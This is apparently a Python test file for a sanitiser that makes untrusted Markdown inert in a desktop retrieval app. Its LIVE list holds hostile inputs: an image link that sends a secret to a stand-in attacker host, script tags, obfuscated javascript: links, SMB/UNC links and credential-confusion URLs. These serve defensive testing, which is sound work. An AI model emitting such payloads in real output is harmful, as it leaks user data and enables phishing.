"""Foreign Markdown that loads nothing, and leads nowhere but to the web."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from desktop_rag.core.markup.inert_markdown import InertStream, inert, safe_address

LIVE = [
    "![](http://evil.example/?d=SECRET)",
    "![[note]]",
    "<img src=http://evil.example>",
    "<script>alert(1)</script>",
    "<!-- x -->",
    "<https://evil.example>",
    "[x](javascript:alert(1))",
    "[x]( <javascript:alert(1)>)",
    "[x](java&#x73;cript:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](smb://host/share)",
    r"[x](\\host\share)",
    "[x](//host/share)",
    "[x](desktop-rag:ask?q=1)",
    "[x](https://bank.example@evil.example/)",
    "[x][y]\n\n[y]: smb://host/share",
    "> [y]: javascript:x\n\n[y]",
    "[y]:\njavascript:x\n\n[y]",
    "words{: style=background:url(http://evil.example)}",
    "- a\n\n  ```\n  code\n<img src=x>",
    " ```\ncode\n```\n<img src=x>",
    "```\ncode\n```\r<img src=x>",
    "~~~ `x\n~~~\n<img src=x>",
    "> ```\n<img src=x>",
]
CALM = [
    "Rent is due [1]: see [it](https://example.org/a_(b)?q=1#x) or [mail](mailto:a@b.example).",
    "```html\n<img src=x> ![](http://x)\n```",
    "a < b and c <= d! [1] style: url",
    "Sources [1]: the lease.",
]


class _Lenient(MarkdownIt):
    """A renderer that makes a link of any address."""

    def validateLink(self, url: str) -> bool:  # noqa: N802
        return True


class _Page(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.targets: set[str] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.targets |= {value or "" for name, value in attrs if name in ("href", "src")}


def page_of(text: str) -> _Page:
    return _Page(_Lenient("commonmark", {"html": True}).enable("table").render(text))


def assert_inert(text: str) -> None:
    page = page_of(text)
    assert not page.names & {"img", "script"}, text
    assert all(target.startswith(("http://", "https://", "mailto:")) for target in page.targets)


@pytest.mark.parametrize("text", LIVE)
def test_nothing_in_it_is_live(text: str) -> None:
    done = inert(text)
    assert len(done) == len(text)
    assert done != text
    assert_inert(done)
    assert not any("@" in t for t in page_of(done).targets if not t.startswith("mailto:"))


@pytest.mark.parametrize("text", CALM)
def test_what_is_harmless_stays(text: str) -> None:
    assert inert(text) == text


_PIECES = st.sampled_from(
    ["!", "[", "]", "(http://x.example)", "(javascript:x)", "[r]: smb://x", "<img src=x>", "</",
     "<!--", "-->", "`", "```", "~~~", "\n", "\n\n", "    ", "> ", "- ", "1. ", "\\", "|", "---",
     "#", "x", "&lt;", "\r", "\t", "](", "]:", "h", "https://", "a@b", "mailto:", " style=", "url("]
)  # fmt: skip


@given(st.lists(_PIECES, max_size=24))
def test_a_stream_is_the_same_as_the_whole_and_nothing_is_live(pieces: list[str]) -> None:
    text, stream = "".join(pieces), InertStream()
    streamed = "".join(map(stream.add, pieces)) + stream.end()
    assert streamed == inert(text)
    assert len(streamed) == len(text)
    assert_inert(streamed)


@pytest.mark.parametrize(
    "href", ["https://a.example/x@y", "mailto:a@b.example", "http://[::1]:80/"]
)
def test_addresses_that_may_be_links(href: str) -> None:
    assert safe_address(href) == href


@pytest.mark.parametrize(
    "href", ["https://bank.example@evil.example", "smb://x", "//x/y", "desktop-rag:ask", "x.md", ""]
)
def test_addresses_that_may_be_none(href: str) -> None:
    assert safe_address(href) is None
